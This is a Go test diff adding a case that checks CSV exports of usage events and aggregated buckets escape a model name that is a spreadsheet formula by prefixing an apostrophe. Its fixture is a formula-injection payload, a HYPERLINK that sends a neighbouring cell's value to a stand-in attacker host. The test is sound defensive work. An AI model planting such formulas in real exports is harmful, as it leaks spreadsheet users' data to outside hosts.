@@ -195,6 +195,29 @@ var storeSuite = []storeCase{
 			{"2026-11-27T10:00:00Z", `model "x", v2`, "1", "7", "3", "0", "0"},
 		}))
 	}},
+	{"exports a model name that is a formula as text", func(t *testing.T, s usage.Store) {
+		g := NewWithT(t)
+		ctx := context.Background()
+		// Model names come from requests: a caller can name one so that a
+		// spreadsheet opening the export runs it.
+		formula := `=HYPERLINK("https://evil.example/?"&B2,"open")`
+		_, err := s.Insert(ctx, []usage.Event{event("f", t0, "p1", "k1", formula, 1, 0)})
+		g.Expect(err).NotTo(HaveOccurred())
+		var buf bytes.Buffer
+		g.Expect(usage.WriteEventsCSV(ctx, &buf, s, usage.EventFilter{From: t0.Add(-time.Hour), To: t0.Add(time.Hour)})).To(Succeed())
+		records, err := csv.NewReader(&buf).ReadAll()
+		g.Expect(err).NotTo(HaveOccurred())
+		g.Expect(records[1][6]).To(Equal("'" + formula))
+
+		q := usage.Query{From: t0.Add(-time.Hour), To: t0.Add(time.Hour), Granularity: usage.Hour, GroupBy: []usage.Dimension{usage.ByModel}}
+		buckets, err := s.Aggregate(ctx, q)
+		g.Expect(err).NotTo(HaveOccurred())
+		buf.Reset()
+		g.Expect(usage.WriteBucketsCSV(&buf, q, buckets)).To(Succeed())
+		records, err = csv.NewReader(&buf).ReadAll()
+		g.Expect(err).NotTo(HaveOccurred())
+		g.Expect(records[1][1]).To(Equal("'" + formula))
+	}},
 	{"tells which keys were used, by when their events were stored", func(t *testing.T, s usage.Store) {
 		g := NewWithT(t)
 		ctx := context.Background()
